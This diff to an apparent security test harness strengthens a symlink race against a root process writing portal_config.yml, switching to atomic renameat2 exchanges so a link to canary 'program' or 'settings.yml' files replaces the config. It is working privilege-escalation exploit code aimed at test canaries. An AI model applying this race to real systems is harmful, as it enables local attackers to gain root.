@@ -9,6 +9,7 @@
 from __future__ import annotations
 
 import contextlib
+import ctypes
 import os
 import socket
 import ssl
@@ -22,6 +23,8 @@ HOME = Path("/var/lib/tethys")
 CANARIES = Path("/etc/hostile")
 SEEN = Path("/opt/hostile/seen")
 OFF = Path("/opt/hostile/off")
+LIBC = ctypes.CDLL(None, use_errno=True)
+AT_FDCWD, RENAME_EXCHANGE = -100, 2
 
 
 def resting(name: str) -> bool:
@@ -76,19 +79,30 @@ def work() -> None:
         time.sleep(0.0005)
 
 
+def exchange(one: Path, other: Path) -> None:
+    """Exchange two names in one step, so that neither is ever missing."""
+    if LIBC.renameat2(AT_FDCWD, os.fsencode(one), AT_FDCWD, os.fsencode(other), RENAME_EXCHANGE):
+        raise OSError(ctypes.get_errno(), "renameat2")
+
+
 def config() -> None:
     """As the portal's user: while root writes portal_config.yml, put a program with root's rights in its place."""
-    real, kept = HOME / "portal_config.yml", HOME / "portal_config.kept"
+    real, other = HOME / "portal_config.yml", HOME / "portal_config.other"
     while True:
         if resting("config"):
             continue
         if any(name.endswith(".tethys_channels") for name in os.listdir(HOME)):
-            with contextlib.suppress(OSError):
-                for target in ("program", "settings.yml"):
-                    os.rename(real, kept)
-                    os.symlink(CANARIES / target, real)
-                    os.rename(kept, real)
-                (SEEN / "config.swapped").touch()
+            for target in ("program", "settings.yml"):
+                with contextlib.suppress(OSError):
+                    os.symlink(CANARIES / target, other)
+                    exchange(real, other)
+                    exchange(real, other)
+                    if not os.path.islink(other):
+                        # The run has written over the link: undoing that is an owner's right, and proves nothing.
+                        exchange(real, other)
+                    (SEEN / "config.swapped").touch()
+                with contextlib.suppress(OSError):
+                    os.unlink(other)
         time.sleep(0.0002)
 
 
